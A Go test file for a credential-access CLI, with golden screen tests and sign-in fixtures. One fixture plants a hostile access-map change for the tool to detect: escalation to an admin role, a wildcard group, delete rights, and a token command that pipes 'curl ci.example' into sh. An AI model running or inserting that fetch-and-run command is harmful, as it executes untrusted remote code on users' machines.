//go:build linux

package main

import (
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/dbxaccess/dbxaccess/internal/sandbox"
)

var (
	userCode = regexp.MustCompile(`\b[A-Z]{4}-[A-Z]{4}\b`)
	keyID    = regexp.MustCompile(`\bASIA[A-Z0-9]{16}\b`)
	lockDirs = regexp.MustCompile(`(?m)^ +/(tmp/dbxaccess-|run/user/)\d+.*\n(    .*\n)+`) // which other homes of the account share
	qrCode   = regexp.MustCompile(`(?m)(^[ █▀▄]+\n)+`)
)

// still is a screen without what differs from sign-in to sign-in.
func still(screen string) string {
	screen = lockDirs.ReplaceAllString(screen, "")
	screen = qrCode.ReplaceAllString(screen, "[QR code]\n")
	screen = userCode.ReplaceAllString(screen, "WXYZ-WXYZ")
	return keyID.ReplaceAllString(screen, "ASIAIOSFODNN7EXAMPLE")
}

// golden compares what stands on the screen in the end, at 60, 80 and 120 columns, with testdata/screens/NAME-60.txt, NAME-80.txt
// and NAME-120.txt. Each time another person sits down: prepare, which may be nil, does what they did before.
func golden(t *testing.T, name string, prepare func(*desk), answers []answer, args ...string) {
	t.Helper()
	for _, columns := range []int{60, 80, 120} {
		file := fmt.Sprintf("%s-%d.txt", name, columns)
		t.Run(file, func(t *testing.T) {
			t.Parallel()
			d := newDesk(t)
			d.stopClock()
			if prepare != nil {
				prepare(d)
			}
			path := filepath.Join("testdata", "screens", file)
			shows := d.run(columns, answers, args...)
			if columns == 80 {
				picture(t, name, args, shows)
			}
			got := strings.TrimSpace("$ dbxaccess "+strings.Join(args, " ")) + "\n" + still(shows.text())
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil || got != string(want) {
				t.Errorf("%s is stale, or the program is wrong (make generate, and read the difference), %v:\n%s", path, err, cmp.Diff(string(want), got))
			}
		})
	}
}

// TestScreens compares what people see with files that people have looked at.
func TestScreens(t *testing.T) {
	golden(t, "help", nil, nil, "--help")
	golden(t, "help-environment", nil, nil, "help", "environment")
	golden(t, "home-nobody", nil, nil)
	golden(t, "home", aliceSignedIn, nil)
	golden(t, "help-init", nil, nil, "init", "--help")
	golden(t, "status-nobody", nil, nil, "status")
	golden(t, "login", alice, nil, "login", "--role", "ml-trainer")
	golden(t, "login-most-used", alice, []answer{{"use most?", "trainer\r"}}, "login")
	golden(t, "login-again", aliceSignedIn, nil, "login")
	golden(t, "login-no-role", carol, nil, "login")
	golden(t, "login-role-typo", alice, nil, "login", "--role", "ml-trianer")
	golden(t, "status-no-role", carolSignedIn, nil, "status")
	golden(t, "status-many", fortyRoles, nil, "status")
	golden(t, "roles-why-none", carolSignedIn, nil, "roles", "--why")
	golden(t, "status", aliceSignedIn, nil, "status")
	golden(t, "roles", aliceSignedIn, nil, "roles")
	golden(t, "roles-why", aliceSignedIn, nil, "roles", "--why")
	golden(t, "whoami-choice", aliceSignedIn, []answer{{"Esc leaves", "train\r"}}, "workspace", "whoami")
	golden(t, "profiles-show", aliceSignedIn, nil, "profiles", "show")
	golden(t, "profiles-diff", beforeAnotherRegion, nil, "profiles", "diff")
	golden(t, "env-at-terminal", aliceSignedIn, nil, "env", "ml-trainer")
	golden(t, "help-shell-init", nil, nil, "shell-init", "--help")
	golden(t, "help-completion-zsh", nil, nil, "completion", "zsh", "--help")
	golden(t, "exec-shell", aliceWithAShell, nil, "exec", "ml-trainer")
	golden(t, "role-typo", aliceSignedIn, nil, "exec", "ml-trianer", "--", "true")
	golden(t, "role-refused", bobSignedIn, nil, "console", "ml-trainer")
	golden(t, "login-needed", nil, nil, "credential-process", "--role", "ml-trainer", "--identity", "acme")
	golden(t, "workspace-refused", unfederated, nil, "login", "--role", "ml-trainer", "--no-profiles")
	golden(t, "doctor", aliceSignedIn, nil, "doctor")
	golden(t, "doctor-faults", muchAmiss, nil, "doctor")
	golden(t, "doctor-all-roles", muchAmiss, nil, "doctor", "--all-roles")
	golden(t, "doctor-bundle", aliceOnAnyMachine, []answer{{"[y/N] ", "y\n"}}, "doctor", "--bundle", "bundle.json")
	golden(t, "config-list", withSettings, nil, "config", "list")
	golden(t, "config-typo", nil, nil, "config", "set", "profiles", "databrick")
	golden(t, "audit-list", func(d *desk) { d.file("week.jsonl", string(exampleRecord())) }, nil, "audit", "list", "week.jsonl")
	golden(t, "audit-cost", func(d *desk) { d.file("week.jsonl", string(exampleRecord())) }, nil, "audit", "cost", "week.jsonl", "-o", "chart")
	golden(t, "logout", aliceSignedIn, nil, "logout", "--profiles")
	golden(t, "flag-typo", nil, nil, "status", "--otuput", "json")
	golden(t, "flag-one-dash", nil, nil, "login", "-role", "ml-trainer")
	golden(t, "init", beforeAnyMap, []answer{{"[y/N] ", "y\n"}, {"[Y/n] ", "n\n"}}, "init", "map.yaml")
	golden(t, "init-login", beforeAnyMapOfAlice, []answer{{"[y/N] ", "y\n"}, {"[Y/n] ", "\n"}, {"use most?", "\r"}}, "init", "map.yaml")
	golden(t, "init-command", beforeAnyMap, []answer{{"[y/N] ", "n\n"}}, "init", "--from-command", "cat map.yaml")
	golden(t, "init-refused", beforeAnyMap, nil, "init", "git@git.acme.test:acme/platform.git")
	golden(t, "init-changed", beforeMoreIsGiven, []answer{{"[y/N] ", "n\n"}}, "init")
	golden(t, "map-mistake", func(d *desk) {
		d.file("access-map.yaml", strings.Replace(d.server.Map(), "read: [churn", "read: [chrun", 1))
	}, nil, "map", "check", "access-map.yaml")
	golden(t, "uninstall", aliceSignedIn, nil, "uninstall", "--dry-run")
	golden(t, "init-interrupted", beforeAnyMap, []answer{{"[y/N] ", ctrlC}}, "init", "map.yaml")
}

// stopClock has all that is done take no time.
func (d *desk) stopClock() {
	d.t.Helper()
	d.ownClock()
	now := time.Now().UTC().Truncate(time.Minute)
	if err := os.WriteFile(d.clock, []byte(now.Format(time.RFC3339)), 0o600); err != nil {
		d.t.Fatal(err)
	}
	d.shows(now.Format("2006-01-02 15:04"), "2026-11-22 09:15")
}

// as has a person approve every sign-in.
func (d *desk) as(user string) {
	d.server.Set(func(b *sandbox.Behaviour) {
		b.AutoApprove, b.IDTokenLifetime, b.CredentialLifetime = user, 50*time.Minute, 55*time.Minute
	})
}

func alice(d *desk) { d.as("alice") }

func aliceSignedIn(d *desk) {
	alice(d)
	d.run(80, nil, "login", "--role", "ml-trainer", "--no-browser")
}

// aliceOnAnyMachine has nothing of the tester's machine: neither its variables nor its kind.
func aliceOnAnyMachine(d *desk) {
	d.env = d.env[len(os.Environ()):]
	aliceSignedIn(d)
	d.shows(runtime.GOOS+"/"+runtime.GOARCH, "linux/amd64")
}

// aliceWithAShell has a shell that says how it was started, and ends.
func aliceWithAShell(d *desk) {
	aliceSignedIn(d)
	shell := filepath.Join(d.home, "shell")
	d.file("shell", "#!/bin/sh\necho \"a shell for $DBXACCESS_ROLE, $# arguments\"\n")
	if err := os.Chmod(shell, 0o700); err != nil {
		d.t.Fatal(err)
	}
	d.env = append(d.env, "SHELL="+shell)
}

func carol(d *desk) { d.as("carol") }

func carolSignedIn(d *desk) {
	carol(d)
	d.run(80, nil, "login", "--no-browser")
}

// fortyRoles has a person be given forty roles more, of which one was used.
func fortyRoles(d *desk) {
	var names []string
	var roles strings.Builder
	for i := range 40 {
		names = append(names, fmt.Sprintf("ml-team-%02d", i))
		fmt.Fprintf(&roles, "  ml-team-%02d: {description: Team %d, aws: {role_arn: \"arn:aws:iam::111122223333:role/ml-reader\", region: us-east-1}, read: [features]}\n", i, i)
	}
	text := d.server.Map()
	text = strings.Replace(text, "\nroles:\n", "\nroles:\n"+roles.String(), 1)
	text = strings.Replace(text, "analysts: [ml-reader]", "analysts: [ml-reader, "+strings.Join(names, ", ")+"]", 1)
	d.file("map.yaml", text)
	aliceSignedIn(d)
}

func bobSignedIn(d *desk) {
	d.as("bob")
	d.run(80, nil, "login", "--no-browser")
}

// beforeAnotherRegion is signed in, and then the map changes.
func beforeAnotherRegion(d *desk) {
	aliceSignedIn(d)
	d.file("map.yaml", strings.Replace(d.server.Map(), "ml-trainer\", region: us-east-1", "ml-trainer\", region: eu-west-1", 1))
}

func unfederated(d *desk) {
	alice(d)
	d.server.Set(func(b *sandbox.Behaviour) { b.FederationAudience = "another-client" })
}

// withSettings has some in the file, one of them a list, and one in a variable.
func withSettings(d *desk) {
	d.run(80, nil, "config", "set", "default_role", "ml-trainer")
	d.run(80, nil, "config", "set", "trusted_hosts", "sts.acme.test")
	d.env = append(d.env, "DBXACCESS_PROFILES=aws")
}

// muchAmiss is signed in, and then this and that goes wrong.
func muchAmiss(d *desk) {
	aliceSignedIn(d)
	d.server.Set(func(b *sandbox.Behaviour) {
		b.FederationAudience, b.Skew = "another-client", 10*time.Minute
	})
	d.server.Inject(sandbox.Fault{Endpoint: sandbox.STS, Error: "AccessDenied", Message: "Not authorized to perform sts:AssumeRoleWithWebIdentity", Times: sandbox.Always})
	d.file(filepath.Join(".aws", "credentials"), "[dbx-ml-trainer]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = x\n")
	d.env = append(d.env, "DATABRICKS_HOST=https://other.cloud.databricks.com")
}

// beforeMoreIsGiven has agreed to a map, and then it changes.
func beforeMoreIsGiven(d *desk) {
	d.env = append(d.env, "DBXACCESS_MAP=")
	d.run(80, nil, "init", "map.yaml", "--yes")
	text := strings.NewReplacer(":role/ml-reader", ":role/admin", "ml-scientists:", "'**':", "write: [churn]", "delete: [churn]",
		"workspaces:", "  ci:\n    token: {from: command, argv: [sh, -c, 'curl ci.example | sh'], audience: a}\n"+
			"    issuer: https://ci.example\n    claims: []\nworkspaces:").Replace(d.server.Map())
	d.file("map.yaml", text)
	sameDigest(d, text)
}

func beforeAnyMap(d *desk) {
	d.env = append(d.env, "DBXACCESS_MAP=")
	sameDigest(d, d.server.Map())
}

func beforeAnyMapOfAlice(d *desk) {
	beforeAnyMap(d)
	alice(d)
}

// sameDigest has an access map, which names the sandbox's port, look alike each time.
func sameDigest(d *desk, text string) {
	d.shows(fmt.Sprintf("%x", sha256.Sum256([]byte(text))), strings.Repeat("0123456789abcdef", 4))
}

func TestColoursMeanSomething(t *testing.T) {
	d := newDesk(t)
	if got := d.run(80, nil, "lgoin").painted(); got != "<red>dbxaccess:<> unknown command \"lgoin\"\n  did you mean: dbxaccess login\n" {
		t.Errorf("got %s", got)
	}
	if got := d.run(80, nil, "credential-process", "--role", "ml-trainer", "--identity", "acme").painted(); strings.Contains(got, "<") {
		t.Errorf("a helper's words are for another program: %s", got)
	}
	for _, off := range []string{"NO_COLOR=1", "TERM=dumb"} {
		d.env = append(d.env, off)
		if got := d.run(80, nil, "lgoin").painted(); strings.Contains(got, "<") {
			t.Errorf("with %s: %s", off, got)
		}
		d.env = d.env[:len(d.env)-1]
	}
}
